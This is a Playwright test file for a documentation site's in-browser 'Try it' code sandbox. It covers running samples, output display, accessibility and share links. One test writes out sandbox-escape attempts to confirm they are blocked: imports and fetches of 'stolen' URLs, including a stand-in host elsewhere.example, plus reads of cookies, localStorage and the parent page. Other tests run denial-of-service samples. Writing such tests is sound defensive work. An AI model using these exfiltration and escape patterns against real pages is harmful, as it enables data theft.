import type { Page, Request, Worker } from '@playwright/test'
import { expectAccessibleInModes } from './support/axe'
import { expect, test } from './support/test'

// Unlike the time zone and locale in which the output was recorded.
test.use({ siteName: 'try', locale: 'sv-SE', timezoneId: 'Asia/Kathmandu' })

const opener = (page: Page, index = 0) => page.getByRole('button', { name: 'Try it' }).nth(index)
const editor = (page: Page) => page.getByRole('textbox', { name: 'Code to try' })
const log = (page: Page) => page.getByRole('log', { name: 'Output of your code' })
const status = (page: Page) => page.locator('.try').getByRole('status')
const isOfSearch = (worker: Worker) => worker.url().includes('search.worker')

async function run(page: Page, code: string): Promise<void> {
  await editor(page).fill(code)
  await editor(page).press('Control+Enter')
}

test('a sample is edited and run with the real package, by keyboard, and does what its panel says', async ({
  page,
  visit,
}) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  await visit('./')
  await expect(page.getByRole('button', { name: 'Try it' })).toHaveCount(2)
  expect(asked.filter((path) => /assets\/hashed\/try-|TryEditor|CodeForm/.test(path))).toEqual([])

  await opener(page).press('Enter')
  await expect(editor(page)).toBeFocused()
  // Run and Close take its place.
  await expect(page.getByRole('button', { name: 'Try it' })).toHaveCount(1)
  await expect(editor(page)).toHaveAccessibleDescription(/Escape closes the editor, Tab moves on/)
  await expect(editor(page)).toHaveValue(/^import \{ getQueryParamsFromUrl \} from '@sinequa\/atomic'\n/)
  await editor(page).press('Control+Enter')
  await expect(status(page)).toHaveText('Finished.')
  const panel = (await page.locator('figure.observed').first().locator('code').textContent()) ?? ''
  await expect(log(page).locator('code')).toHaveText(panel)

  const typed = [
    "import { names } from './names'",
    'enum Wood { Oak = 4 }',
    'interface Plank { wood: Wood }',
    'const plank = { wood: Wood.Oak } satisfies Plank',
    'const later = await new Promise<string>((resolve) => setTimeout(resolve, 60_000, names[1] as string))',
    'console.log(later, plank)',
  ].join('\n')
  await run(page, typed)
  await expect(log(page).locator('code')).toHaveText('plane { wood: 4 }')
  await page.keyboard.press('Tab')
  await expect(page.getByRole('button', { name: 'Run' })).toBeFocused()
  await page.keyboard.press('Escape')
  await expect(editor(page)).toBeHidden()
  await expect(opener(page)).toBeFocused()

  await page.getByRole('link', { name: 'Next', exact: true }).click()
  await expect(page.getByRole('heading', { level: 1, name: 'Plain' })).toBeVisible()
  await page.goBack()
  await opener(page).click()
  await expect(editor(page)).toHaveValue(typed)
  await page.getByRole('button', { name: 'Reset' }).click()
  await expect(editor(page)).toHaveValue(/^import \{ getQueryParamsFromUrl \}/)
  await expect(page.locator('iframe')).toHaveCount(0)
})

test('a request is shown with its headers and body, and answered as the sample says', async ({
  page,
  visit,
}) => {
  await visit('./')
  await opener(page, 1).click()
  await expect(editor(page)).toHaveValue(/^respond\('api\/planks', \{ left: 7 \}\)/)
  await page.getByRole('button', { name: 'Run' }).click()
  await expect(status(page)).toHaveText('Finished.')
  // What the code says comes first. Its requests are folds below that.
  await expect(log(page).locator('.observed').first()).toContainText('{ left: 7 }')
  await expect(log(page).getByLabel('Request')).toBeHidden()
  await log(page).getByText('Request POST /api/planks').click()
  await expect(log(page).getByLabel('Request')).toHaveText(/^POST \/api\/planks\s+\?wood=oak$/)
  await log(page).getByText('Headers').click()
  await expect(log(page).getByLabel('Headers')).toHaveText(/x-bench: north/)
  await expect(log(page).getByLabel('Body')).toHaveText(/"count": 3/)
})

test('errors, warnings and markup are shown as text', async ({ page, visit }) => {
  await visit('./')
  await opener(page).click()
  await run(
    page,
    [
      'console.log(\'<img src="/bench/marked" alt="marked">\')',
      "console.warn('thin %s', 'ice')",
      "Promise.reject(new TypeError('<b>nobody</b>'))",
      "setTimeout(() => { throw new Error('late') })",
      "throw new RangeError('too far')",
    ].join('\n'),
  )
  await expect(status(page)).toHaveText('Finished, with an error.')
  const captions = ['Output', 'Warning', 'Throws', 'Unhandled rejection', 'Uncaught error']
  await expect(log(page).locator('figcaption')).toHaveText(captions)
  await expect(log(page).locator('code').first()).toHaveText('<img src="/bench/marked" alt="marked">')
  await expect(log(page).locator('code').nth(3)).toHaveText('TypeError: <b>nobody</b>')
  await expect(log(page).locator('img, b')).toHaveCount(0)

  await run(page, 'const planks: number[ = []')
  await expect(log(page).locator('code')).toHaveText(/^SyntaxError: .*line 1/)
  await run(page, "import 'elsewhere'")
  await expect(log(page).locator('code')).toHaveText(/cannot import 'elsewhere' here\..*@sinequa\/atomic/)
  await run(page, 'await new Promise(() => {})')
  await expect(status(page)).toHaveText(/still waiting for something that never comes/)
  await run(page, '')
  await expect(status(page)).toHaveText(/printed nothing and made no request/)
})

test('endless code is stopped, the page stays alive, and the next run starts afresh', async ({
  page,
  visit,
}) => {
  await visit('./')
  await opener(page).click()
  await run(page, "globalThis.left = 'over'\nconsole.log('before')\nwhile (true) {}")
  // The page stays responsive while the code runs.
  await expect(status(page)).toHaveText('Running…')
  await expect(log(page)).toHaveText('Outputbefore')
  await editor(page).press('End')
  await expect(status(page)).toHaveText('Stopped after 3 seconds.')
  await expect(page.locator('iframe')).toHaveCount(0)
  await expect.poll(() => page.workers().filter((worker) => !isOfSearch(worker)).length).toBe(0)

  await run(page, "for (;;) console.log('more '.repeat(200))")
  await expect(status(page)).toHaveText('Stopped: there was too much output.')
  expect((await log(page).innerText()).length).toBeLessThan(120_000)

  await run(page, 'console.log(Reflect.get(globalThis, "left"))')
  await expect(log(page).locator('code')).toHaveText('undefined')
})

// An endless loop stands for them at each commit.
for (const [what, code] of Object.entries({
  'messages without an end': 'for (;;) postMessage({ parts: [], end: 1 })',
  'requests without an end': "for (;;) fetch('/api/' + Math.random())",
  'a hundred megabytes': "console.log('x'.repeat(100_000_000))",
  'a window on top':
    "for (const name of ['top', 'parent', 'opener']) Reflect.get(globalThis, name)?.location.assign('/')",
  'broken built-ins': 'Array.prototype.map = JSON.stringify = () => { throw 1 }\nconsole.log({})',
})) {
  test(`${what} in a sample leaves the page alive, and the next run works`, { tag: '@weekly' }, async ({
    page,
    visit,
    site,
  }) => {
    await visit('./')
    await opener(page).click()
    await run(page, code)
    await page.evaluate(() => document.body.offsetHeight)
    await expect(status(page)).toHaveText(/^(Finished|Stopped)/)
    expect(page.url()).toBe(site.url)
    await run(page, "console.log('alive')")
    await expect(log(page).locator('code').last()).toHaveText('alive')
    expect((await log(page).innerText()).length).toBeLessThan(120_000)
  })
}

test('code reaches neither the network nor the page', async ({ page, visit, site, problems }) => {
  problems.expect(/Content Security Policy|content security policy/i)
  // The browser reports the request before its policy blocks it.
  problems.expect(/request to elsewhere: https:\/\/elsewhere\.example/)
  await visit('./')
  await page.evaluate(() => localStorage.setItem('secret', 'of the page'))
  const isForbidden = (request: Request) => /stolen|elsewhere/.test(request.url())
  const left: string[] = []
  const stopped: string[] = []
  page.on('response', (response) => left.push(...(isForbidden(response.request()) ? [response.url()] : [])))
  page.on('requestfailed', (request) => {
    if (isForbidden(request)) stopped.push(request.failure()?.errorText ?? '')
  })
  await opener(page).click()
  await run(
    page,
    `
    const load: (address: string) => Promise<unknown> = new Function('address', 'return import(address)') as never
    const reasons: unknown[] = []
    const attempt = async (name: string, act: () => unknown) => {
      try { reasons.push(name + ' works', await act()) } catch (error) { reasons.push(name + ' fails') }
    }
    await attempt('import', () => load('${site.url}stolen.js'))
    await attempt('foreign import', () => load('https://elsewhere.example/stolen.js'))
    for (let at = Object.getPrototypeOf(globalThis); at; at = Object.getPrototypeOf(at)) {
      const native = Object.getOwnPropertyDescriptor(at, 'fetch')?.value
      if (native) await attempt('fetch', () => native.call(globalThis, '${site.url}?stolen'))
      const script = Object.getOwnPropertyDescriptor(at, 'importScripts')?.value
      if (script) await attempt('importScripts', () => script.call(globalThis, '${site.url}stolen.js'))
    }
    console.log(reasons.filter((reason) => !String(reason).endsWith('fails')))
    console.log(typeof document, typeof parent, typeof XMLHttpRequest, typeof WebSocket, typeof Worker)
    console.log(localStorage.getItem('secret'), location.href)
    `,
  )
  await expect(log(page).locator('code')).toHaveText(
    '[]\nundefined undefined undefined undefined undefined\nnull https://search.acme.example/',
  )

  // The frame only exists while the code may run, so a busy machine may need several tries.
  await expect(async () => {
    await run(page, 'while (true) {}')
    await expect(page.locator('iframe')).toHaveCount(1)
    const frame = page.frames()[1]
    await expect.poll(() => frame?.evaluate(() => document.readyState)).toBe('complete')
    const seen = await frame?.evaluate(async (own) => {
      const fails = async (act: () => unknown) => {
        try {
          await act()
          return false
        } catch {
          return true
        }
      }
      new Image().src = `${own}?stolen`
      return [
        self.origin === 'null',
        await fails(() => fetch(`${own}?stolen`)),
        await fails(() => fetch('https://elsewhere.example/')),
        await fails(() => parent.document.title),
        await fails(() => localStorage.length),
        await fails(() => document.cookie),
      ]
    }, site.url)
    expect(seen).toEqual([true, true, true, true, true, true])
  }).toPass()
  expect(left).toEqual([])
  expect(new Set(stopped)).toEqual(new Set(['csp']))
})

test('the sandbox does nothing where it is not in a sandbox', async ({ page, visit }) => {
  await visit('./')
  await opener(page).click()
  await editor(page).press('Control+Enter')
  await expect(status(page)).toHaveText('Finished.')
  const address = await page.evaluate(
    () =>
      performance
        .getEntriesByType('resource')
        .map(({ name }) => name)
        .find((name) => /assets\/hashed\/try-[\w-]{8}\.htm$/.test(name)) ?? '',
  )
  const document = await (await page.request.get(address)).text()
  expect(document).toContain(`default-src 'none'; script-src 'unsafe-eval' 'sha256-`)
  expect(document).toContain(`connect-src 'none'`)
  const heard = await page.evaluate(async (src) => {
    const open = (isSandboxed: boolean) =>
      new Promise<HTMLIFrameElement>((resolve) => {
        const frame = globalThis.document.createElement('iframe')
        if (isSandboxed) frame.setAttribute('sandbox', 'allow-scripts')
        frame.src = src
        frame.onload = () => resolve(frame)
        globalThis.document.body.append(frame)
      })
    const ready: (MessageEventSource | null)[] = []
    let heardSandboxed = () => {}
    const done = new Promise<void>((resolve) => {
      heardSandboxed = resolve
    })
    const frames: HTMLIFrameElement[] = []
    addEventListener('message', ({ source }) => {
      ready.push(source)
      if (frames.length > 0) heardSandboxed()
    })
    const own = await open(false)
    own.contentWindow?.postMessage({ code: 'console.log(1)', files: {} }, '*')
    frames.push(own)
    await open(true)
    await done
    return ready.map((source) => source === own.contentWindow)
  }, address)
  expect(heard).toEqual([false])
  await page.goto('./')
  const policy = page.locator('meta[http-equiv=Content-Security-Policy]')
  await expect(policy).not.toHaveAttribute('content', /unsafe-eval/)
})

test('a file that fails to load is reported, and can be requested again', async ({
  page,
  visit,
  problems,
}) => {
  problems.expect(/Failed to load resource/)
  const editorScript = /TryEditor/
  const sample = /\/try-[\w-]{8}\.json$/
  const packages = /\/try-packages-/
  for (const address of [editorScript, sample, packages]) await page.route(address, (route) => route.abort())
  await visit('./')
  await opener(page).click()
  await expect(page.getByRole('alert').filter({ hasText: 'The editor could not be loaded.' })).toBeVisible()
  await page.unroute(editorScript)
  await opener(page).click()
  await expect(status(page)).toContainText('What the code needs could not be loaded.')
  await page.unroute(sample)
  await page.getByRole('button', { name: 'Retry' }).click()
  await expect(editor(page)).toBeFocused()
  await page.getByRole('button', { name: 'Run' }).click()
  await expect(status(page)).toHaveText('What the code needs could not be loaded.')
  await page.unroute(packages)
  await page.getByRole('button', { name: 'Retry' }).click()
  await expect(status(page)).toHaveText('Finished.')
})

test('the editor has no accessibility problems, fits a narrow screen, and is not on paper', async ({
  page,
  visit,
}) => {
  await page.setViewportSize({ width: 320, height: 800 })
  await visit('./')
  await opener(page, 1).click()
  await editor(page).press('Control+Enter')
  await expect(status(page)).toHaveText('Finished.')
  await expectAccessibleInModes(page, 'after a run', { within: '.try' })
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  expect(overflow).toBeLessThanOrEqual(0)
  await page.emulateMedia({ media: 'print' })
  await expect(opener(page)).toBeHidden()
})

test('on a phone, the editor, its buttons and what a run brings come into view, and long lines wrap', async ({
  page,
  visit,
}) => {
  await page.setViewportSize({ width: 390, height: 664 })
  await visit('./')
  await opener(page).evaluate((button) => button.scrollIntoView({ block: 'end' }))
  await opener(page).click()
  await expect(editor(page)).toBeInViewport()
  const runButton = page.getByRole('button', { name: 'Run' })
  await expect(runButton).toBeInViewport({ ratio: 1 })
  await editor(page).fill(`const line = '${'oak '.repeat(30)}'\n${'console.log(line)\n'.repeat(40)}`)
  await runButton.click()
  await expect(status(page)).toHaveText('Finished.')
  await expect(status(page)).toBeInViewport({ ratio: 1 })
  await expect(log(page)).toBeInViewport()
  await expect(runButton).toBeInViewport({ ratio: 1 })
  const field = page.locator('.try-code')
  expect(await field.evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)).toBe(0)
  const sizes = await field.evaluate((element) =>
    [...element.querySelectorAll('pre, textarea')].map(({ scrollHeight }) => scrollHeight),
  )
  expect(sizes[0]).toBe(sizes[1])
})

test('a link with more code than a link carries opens the sample, and says so', async ({ page }) => {
  await page.goto(`./#try=0.${'f<'.repeat(60_000)}`)
  await expect(status(page)).toHaveText('A link carries no more than 10000 characters of code.')
  await expect(editor(page)).toHaveValue(/^import \{ getQueryParamsFromUrl \}/)
  await editor(page).fill('f<'.repeat(60_000))
  await page.getByRole('button', { name: 'Copy link' }).click()
  await expect(status(page)).toHaveText('A link carries no more than 10000 characters of code.')
})

test('a link carries the code in its hash: the editor opens with it, and runs nothing by itself', async ({
  context,
  page,
  visit,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await visit('./')
  await opener(page, 1).click()
  await editor(page).fill("console.log('läuft <b>')")
  await page.getByRole('button', { name: 'Copy link' }).click()
  await expect(status(page)).toHaveText('Link to this code copied.')
  const link = await page.evaluate(() => navigator.clipboard.readText())
  expect(new URL(link).hash).toMatch(/^#try=1\./)

  await page.goto('about:blank')
  await page.goto(link)
  await expect(editor(page)).toHaveValue("console.log('läuft <b>')")
  await expect(log(page)).toBeEmpty()
  await editor(page).press('Control+Enter')
  await expect(log(page).locator('code')).toHaveText('läuft <b>')

  await editor(page).fill('console.log(2)')
  await page.getByRole('button', { name: 'Close' }).click()
  await opener(page, 1).click()
  await expect(editor(page), 'what was typed since').toHaveValue('console.log(2)')
})
